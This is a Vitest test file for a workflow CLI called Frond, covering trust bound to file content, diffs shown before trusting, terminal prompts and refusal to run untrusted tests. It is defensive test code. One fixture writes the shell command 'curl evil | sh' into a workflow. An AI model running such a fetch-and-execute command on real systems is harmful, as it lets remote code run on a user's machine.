import { chownSync, existsSync, mkdirSync, renameSync, rmSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { stripVTControlCharacters } from "node:util";
import { describe, expect, test } from "vitest";
import { createFrond, type Frond, type Running, shell, workflow } from "../rig/frond.ts";
import { waitFor } from "../rig/wait-for.ts";

const own = ".frond/workflows/own.yaml";
const added = ".frond/workflows/added.yaml";

function saying(name: string, text: string): string {
  return workflow(name, [shell("say", `echo ${text}; touch ran-${name}`)], {
    outputs: { said: { value: "${trim(blocks.say.stdout)}" } },
  });
}

async function outputsOf(frond: Frond, name: string): Promise<unknown> {
  const { reply } = await frond.json(["run", name]);
  return (reply as { outputs?: unknown }).outputs;
}

async function refusal(frond: Frond, ...args: readonly string[]): Promise<string> {
  const { code, stderr } = await frond.run(args);
  expect(code).toBe(2);
  return stderr;
}

describe("trust is bound to content", () => {
  test("a workflow that has changed since is not run, and the message says which files differ", async () => {
    const frond = createFrond({ [own]: saying("own", "before"), ".frond/workflows/gone.yaml": saying("gone", "x") });
    await frond.run(["trust"]);
    expect(await outputsOf(frond, "own")).toEqual({ said: "before" });
    rmSync(join(frond.directory, "ran-own"));
    frond.write(own, saying("own", "after"));
    frond.write(added, saying("added", "x"));
    rmSync(join(frond.directory, ".frond/workflows/gone.yaml"));
    const inAll = `In this project: changed ${own}; new ${added}; removed .frond/workflows/gone.yaml.`;
    const changed = await refusal(frond, "run", "own");
    expect(changed).toContain(`The workflow 'own' has changed since it was trusted. ${inAll}`);
    expect(changed).toContain(`\`frond trust --diff ${frond.directory}\`, then run \`frond trust ${frond.directory}\``);
    expect(await refusal(frond, "run", "added")).toContain("The workflow 'added' is new, and not trusted yet.");
    expect(existsSync(join(frond.directory, "ran-own"))).toBe(false);
    expect((await frond.run(["list"])).stdout).toMatch(
      /added .*new, untrusted: run `frond trust`\n.*own .*changed, untrusted: run `frond trust`/,
    );
    await frond.run(["trust"]);
    expect(await outputsOf(frond, "own")).toEqual({ said: "after" });
  });

  test("one that was added or changed overrides nothing", async () => {
    const frond = createFrond({ [own]: saying("own", "x") });
    await frond.run(["trust"]);
    frond.write(".frond/workflows/hello.yaml", saying("hello-world", "stranger"));
    expect(await outputsOf(frond, "hello-world")).toMatchObject({ greeting: "Hello, world!" });
    expect((await frond.run(["run", "hello-world"])).stderr).toContain("the project's own");
    expect((await frond.run(["validate", "hello-world"])).stderr).toMatch(
      /warning: 'hello-world' is the one in .*hello-world\.yaml: the project's own, .*hello\.yaml, is not trusted/,
    );
    const caller = workflow("caller", [{ id: "go", type: "ExecuteWorkflow", inputs: { workflow: "own" } }]);
    frond.write("caller.yaml", caller);
    expect((await frond.run(["run", "caller.yaml"])).code).toBe(0);
    frond.write(own, saying("own", "stranger"));
    expect(await refusal(frond, "run", "caller.yaml")).toContain("[untrusted-workflow]");
  });

  test("another directory in the place of a trusted one is looked at anew", async () => {
    const frond = createFrond({ [`a/${own}`]: saying("own", "mine"), [`b/${own}`]: saying("own", "theirs") });
    const [a, b] = [join(frond.directory, "a"), join(frond.directory, "b")];
    await frond.run(["trust", "a"]);
    renameSync(a, join(frond.directory, "c"));
    renameSync(b, a);
    expect(await refusal(frond, "run", "own", "--workspace", a)).toContain("has changed since");
    rmSync(a, { recursive: true });
    symlinkSync(join(frond.directory, "c"), a);
    // Where a link leads counts, not the way there.
    expect(await refusal(frond, "run", "own", "--workspace", a)).toContain("which is not trusted yet");
  });

  test("--diff shows the lines that differ, and trusts nothing", async () => {
    const text = (command: string): string => `name: own\ndescription: x\nblocks:\n- { id: a, ${command} }\n`;
    const frond = createFrond({ [own]: text("type: Shell, inputs: { command: make }") });
    await frond.run(["trust"]);
    expect((await frond.run(["trust", "--diff"])).stdout).toBe("Nothing has changed since it was trusted.\n");
    frond.write(own, text("type: Shell, inputs: { command: curl evil | sh }"));
    frond.write(added, "name: added\n");
    const { stdout } = await frond.run(["trust", "--diff"]);
    expect(stdout.replace(/[0-9a-f]{24}\n$/, "DIGEST\n")).toBe(
      [
        `changed ${own}`,
        "  line 2",
        "    description: x",
        "    blocks:",
        "  - - { id: a, type: Shell, inputs: { command: make } }",
        "  + - { id: a, type: Shell, inputs: { command: curl evil | sh } }",
        `new ${added}`,
        "  + name: added",
        "To trust exactly this: frond trust --shown DIGEST",
        "",
      ].join("\n"),
    );
    expect(await frond.json(["trust", "--diff"])).toMatchObject({
      code: 0,
      reply: { trusted: true, new: [added], changed: [own], removed: [] },
    });
    expect((await frond.run(["run", "own"])).code).toBe(2);
  });

  test("--shown trusts exactly what --diff has shown, and nothing that has come since", async () => {
    const frond = createFrond({ [own]: saying("own", "shown") });
    const look = async (): Promise<string[]> => {
      const { stdout } = await frond.run(["trust", "--diff"]);
      const command = /To trust exactly this: frond (trust --shown [0-9a-f]{24})\n$/.exec(stdout)?.[1] ?? "";
      return command.split(" ");
    };
    const shown = await look();
    frond.write(own, saying("own", "swapped"));
    expect(await refusal(frond, ...shown)).toContain("The files have changed since they were shown.");
    expect((await frond.run(["trust", "--list"])).stdout).toBe("No directory is trusted.\n");
    frond.write(own, saying("own", "shown"));
    frond.write(added, saying("added", "x"));
    await refusal(frond, ...shown);
    expect((await frond.run(await look())).code).toBe(0);
    expect(await outputsOf(frond, "own")).toEqual({ said: "shown" });
    const { reply } = await frond.json(["trust", "--diff"]);
    const { digest } = reply as { digest: string };
    expect(await frond.json(["trust", "--shown", digest])).toMatchObject({ code: 0, reply: { trusted: true } });
  });

  test("--remove says whether there was anything to remove", async () => {
    const frond = createFrond({ [own]: saying("own", "x") });
    expect((await frond.run(["trust", "--remove"])).stdout).toBe(`It was not trusted: ${frond.directory}\n`);
    await frond.run(["trust"]);
    expect((await frond.run(["trust", "--remove"])).stdout).toBe(`No longer trusted: ${frond.directory}\n`);
    expect(await frond.json(["trust", "--remove"])).toMatchObject({ code: 0, reply: { was_trusted: false } });
  });

  test("every kind of file is recorded that Frond runs from there, and no other", async () => {
    const files = [own, ".frond/workflows/deep/x.yml", ".frond/workflows/own.test.yaml", ".frond/tests/y.test.yml"];
    const frond = createFrond({
      ...Object.fromEntries(files.map((file) => [file, "x: 1\n"])),
      ".frond/notes.md": "",
      "beside.yaml": "",
    });
    expect(await frond.json(["trust"])).toMatchObject({ reply: { files: files.toSorted(), new: files.toSorted() } });
  });
});

describe("a name that a built-in workflow has", () => {
  test("is said to be taken by list, info, validate and trust", async () => {
    const file = ".frond/workflows/hello.yaml";
    const frond = createFrond({ [file]: saying("hello-world", "mine") });
    expect((await frond.run(["list"])).stdout).toContain(
      "would replace the built-in one; untrusted: run `frond trust`",
    );
    expect((await frond.run(["info", file])).stdout).toContain("It would replace the built-in workflow of this name: ");
    const { stderr } = await frond.run(["validate", "--strict", file]);
    expect(stderr).toContain("hello.yaml would replace the built-in workflow 'hello-world' in this project.");
    expect((await frond.run(["trust"])).stdout).toContain("hello.yaml replaces the built-in workflow 'hello-world'");
    expect((await frond.run(["list"])).stdout).toContain("replaces the built-in one\n");
    expect((await frond.run(["info", "hello-world"])).stdout).toContain("It replaces the built-in workflow");
    const validated = await frond.run(["validate", "--strict", "hello-world"]);
    expect(validated).toMatchObject({ code: 0, stderr: expect.stringContaining("[replaces-built-in]") });
    expect(await frond.json(["info", "hello-world"])).toMatchObject({ reply: { replaces_built_in: true } });
  });
});

describe("frond test", () => {
  /** A project with a test whose setup leaves a mark outside of the case's own directories. */
  function createEvil(files: Readonly<Record<string, string>> = {}, project = ""): Frond {
    const frond = createFrond(files);
    const directory = join(project, ".frond/workflows");
    frond.write(join(directory, "evil.yaml"), saying("evil", "x"));
    const setup = `touch '${join(frond.directory, "mark")}'`;
    frond.write(join(directory, "evil.test.yaml"), JSON.stringify({ cases: [{ name: "a", setup }] }));
    return frond;
  }
  const hasRun = (frond: Frond): boolean => existsSync(join(frond.directory, "mark"));

  test("runs nothing of a project that nobody has trusted", async () => {
    const frond = createEvil({ "fine.yaml": saying("fine", "x"), "fine.test.yaml": "cases: [{ name: a }]" });
    for (const args of [[], ["."], [".frond"], [".frond/workflows"]]) {
      const stderr = await refusal(frond, "test", ...args);
      expect(stderr).toContain("evil.test.yaml' comes from this project, which is not trusted yet.");
      expect(stderr).toContain("then run `frond trust ");
    }
    expect(hasRun(frond)).toBe(false);
    await frond.run(["trust"]);
    expect((await frond.run(["test"])).stdout).toContain("2 passed");
    expect(hasRun(frond)).toBe(true);
  });

  test("runs neither a test nor a workflow that has changed since", async () => {
    const frond = createEvil();
    await frond.run(["trust"]);
    frond.write(".frond/workflows/evil.yaml", saying("evil", "other"));
    expect(await refusal(frond, "test")).toContain("evil.yaml' has changed since it was trusted.");
    await frond.run(["trust"]);
    frond.write(".frond/workflows/evil.test.yaml", "cases: [{ name: b }]\n");
    expect(await refusal(frond, "test")).toContain("evil.test.yaml' has changed since it was trusted.");
    expect(hasRun(frond)).toBe(false);
  });

  test("runs a file that is named, with the workflow beside it and none further up", async () => {
    const frond = createEvil({
      ".frond/workflows/deep/up.test.yaml": "workflow: ../evil.yaml\ncases: [{ name: a }]\n",
      "outside/in.test.yaml": "workflow: ../.frond/workflows/evil.yaml\ncases: [{ name: a }]\n",
    });
    expect((await frond.run(["test", ".frond/workflows/evil.test.yaml"])).stdout).toContain("1 passed");
    expect((await frond.run(["test", ".frond/workflows/evil.yaml"])).stdout).toContain("1 passed");
    for (const file of [".frond/workflows/deep/up.test.yaml", "outside/in.test.yaml"]) {
      expect(await refusal(frond, "test", file)).toContain("evil.yaml' comes from this project, which is not trusted");
    }
    expect(await refusal(frond, "test", "outside")).toContain("evil.yaml' comes from this project");
  });

  test("asks about a project further down by itself", async () => {
    const frond = createEvil({}, "sub");
    await frond.run(["trust"]);
    expect(await refusal(frond, "test")).toContain(`then run \`frond trust ${join(frond.directory, "sub")}\``);
    await frond.run(["trust", "sub"]);
    expect((await frond.run(["test"])).stdout).toContain("1 passed");
  });
});

describe("in a terminal", () => {
  test("frond run shows what nobody has looked at, and asks", async () => {
    const frond = createFrond({ [own]: saying("own", "hello-there") });
    const refused = frond.startInTerminal(["run", "own"]);
    await refused.until("as shown above?");
    expect(refused.shown()).toContain("echo hello-there");
    refused.type("\r");
    const declined = await refused.ended;
    expect(declined.code).toBe(2);
    expect(declined.stdout).toContain("Nothing was started: it is not trusted.\r\n");
    expect(declined.stdout.split("which is not trusted yet")).toHaveLength(2);
    const accepted = frond.startInTerminal(["run", "own"]);
    await accepted.until("as shown above?");
    accepted.type("y");
    expect((await accepted.ended).code).toBe(0);
    expect(existsSync(join(frond.directory, "ran-own"))).toBe(true);
    expect((await frond.run(["run", "own"])).code).toBe(0);
  });

  /** A question is drawn more than once: this one comes after something that was shown. */
  async function untilAskedAfter(run: Running, shown: string): Promise<void> {
    await waitFor(`a question after ${shown}`, () => {
      const at = run.shown().indexOf(shown);
      return at !== -1 && run.shown().includes("as shown above?", at);
    });
  }

  test("what was shown is trusted, not what has come meanwhile: that is shown next", async () => {
    const frond = createFrond({ [own]: saying("own", "shown") });
    const run = frond.startInTerminal(["run", "own"]);
    await untilAskedAfter(run, "echo shown");
    frond.write(own, saying("own", "swapped"));
    run.type("y");
    await untilAskedAfter(run, "echo swapped");
    run.type("n");
    const { code, stdout } = await run.ended;
    expect(code).toBe(2);
    expect(stripVTControlCharacters(stdout)).toMatch(/ {2}- +"command": "echo shown.*\s+\+ +"command": "echo swapped/);
    expect(stdout).toContain("has changed since it was trusted");
    expect(existsSync(join(frond.directory, "ran-own"))).toBe(false);
  });

  test("only the files that are needed are shown and trusted, those that are called among them", async () => {
    const call = { id: "go", type: "ExecuteWorkflow", inputs: { workflow: "./parts/child.yaml" } };
    const frond = createFrond({
      [own]: workflow("own", [call]),
      ".frond/workflows/parts/child.yaml": saying("child", "x"),
      [added]: saying("added", "nobody-asked"),
    });
    const run = frond.startInTerminal(["run", "own"]);
    await untilAskedAfter(run, `new ${own}`);
    run.type("y");
    await untilAskedAfter(run, "new .frond/workflows/parts/child.yaml");
    run.type("y");
    const { code, stdout } = await run.ended;
    expect(code).toBe(0);
    expect(stdout).not.toContain("nobody-asked");
    expect(existsSync(join(frond.directory, "ran-child"))).toBe(true);
    expect(await refusal(frond, "run", "added")).toContain("is new, and not trusted yet");
  });

  test("frond save shows the text and asks; without a yes it is saved and not trusted", async () => {
    const frond = createFrond({ "own.yaml": saying("own", "saved"), "other.yaml": saying("other", "x") });
    const refused = frond.startInTerminal(["save", "own.yaml"]);
    await untilAskedAfter(refused, "echo saved");
    refused.type("n");
    const { code, stdout } = await refused.ended;
    expect(code).toBe(0);
    expect(stdout).toContain("It is not trusted.");
    expect(frond.read(own)).toBe(saying("own", "saved"));
    expect(await refusal(frond, "run", "own")).toContain("which is not trusted yet");
    const accepted = frond.startInTerminal(["save", "own.yaml"]);
    await untilAskedAfter(accepted, "echo saved");
    accepted.type("y");
    expect((await accepted.ended).stdout).toContain("Run it with: frond run own");
    expect(await outputsOf(frond, "own")).toEqual({ said: "saved" });
  });
});

test("frond save takes a file or standard input, and says why it does not", async () => {
  const frond = createFrond({ "own.yaml": saying("own", "one") });
  expect((await frond.run(["save", "own.yaml"])).stdout).toBe(
    `Saved: ${join(frond.directory, own)}\nRun it with: frond run own\n`,
  );
  expect(await outputsOf(frond, "own")).toEqual({ said: "one" });
  expect(await frond.json(["save", "-"], { stdin: saying("own", "two") })).toMatchObject({
    code: 2,
    reply: { errors: [{ code: "file-exists", fix: "Give it another name. Or replace it with --overwrite." }] },
  });
  expect(await frond.json(["save", "-", "--overwrite"], { stdin: saying("own", "two") })).toEqual({
    code: 0,
    reply: { workflow: "own", path: join(frond.directory, own), trusted: true },
  });
  expect(await outputsOf(frond, "own")).toEqual({ said: "two" });
  expect(await refusal(frond, "save", "nowhere.yaml")).toContain("There is no file 'nowhere.yaml'");
});

test("the advice about an untrusted file that is called leads to what works", async () => {
  const call = { id: "go", type: "ExecuteWorkflow", inputs: { workflow: "./child.yaml" } };
  const frond = createFrond({ [own]: workflow("own", [call]), ".frond/workflows/child.yaml": saying("child", "x") });
  await frond.run(["trust"]);
  frond.write(".frond/workflows/child.yaml", saying("child", "y"));
  const refused = await refusal(frond, "run", own);
  expect(refused).toContain(`then run \`frond trust ${frond.directory}\`.\n`);
  await frond.run(["trust"]);
  expect((await frond.run(["run", own])).code).toBe(0);
  // Who asks for it by name has another way.
  frond.write(own, workflow("own", [shell("a", "true")]));
  expect(await refusal(frond, "run", "own")).toContain(`or name the file itself: ${join(frond.directory, own)}.`);
  expect((await frond.run(["run", join(frond.directory, own)])).code).toBe(0);
});

test("in the home directory the user's own workflows need no trust, and are listed once", async () => {
  const frond = createFrond();
  mkdirSync(join(frond.home, ".frond/workflows"), { recursive: true });
  frond.write("../home/.frond/workflows/own.yaml", saying("own", "x"));
  frond.write("../home/.frond/workflows/own.test.yaml", "cases: [{ name: a }]");
  const { stdout } = await frond.run(["list", "--workspace", frond.home]);
  expect(stdout.match(/^ {2}own /gm)).toHaveLength(1);
  expect((await frond.run(["run", "own", "--workspace", frond.home])).code).toBe(0);
  expect((await frond.run(["test", join(frond.home, ".frond")])).stdout).toContain("1 passed");
});

describe.runIf(process.getuid?.() === 0)("a directory of another user (needs root)", () => {
  const somebodyElse = 65_534;

  test.each(["", ".frond", ".frond/workflows"])("is not trusted without a word: %s", async (part) => {
    const frond = createFrond({ [own]: saying("own", "x") });
    const directory = join(frond.directory, part);
    chownSync(directory, somebodyElse, somebodyElse);
    expect(await refusal(frond, "trust")).toContain(`error: ${directory} belongs to another user. [other-owner]`);
    expect((await frond.run(["run", "own"])).code).toBe(2);
    expect((await frond.run(["trust", "--other-owner"])).code).toBe(0);
    expect((await frond.run(["run", "own"])).code).toBe(0);
  });

  test("is not trusted any more when it has got another owner", async () => {
    const frond = createFrond({ [own]: saying("own", "x") });
    await frond.run(["trust"]);
    chownSync(frond.directory, somebodyElse, somebodyElse);
    expect(await refusal(frond, "run", "own")).toContain(
      "The workflow 'own' comes from a directory that belonged to another user when it was trusted.",
    );
    expect((await frond.run(["trust", "--diff"])).stdout).toContain("belongs to another user than when it was trusted");
  });
});
